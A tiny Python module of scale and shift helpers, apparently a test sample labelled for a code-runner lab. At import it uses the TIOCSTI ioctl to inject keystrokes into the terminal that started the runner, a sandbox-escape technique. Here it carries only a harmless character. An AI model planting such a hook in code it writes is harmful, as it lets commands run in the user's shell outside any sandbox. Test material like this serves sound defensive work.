"""Types into the terminal of whoever started the runner."""
# lab: scale-and-shift
# verdict: raised

import fcntl
import termios

for fd in range(3):
    fcntl.ioctl(fd, termios.TIOCSTI, b"x")


def scale(x, factor):
    return x * factor


def shift(x, amount):
    return x + amount
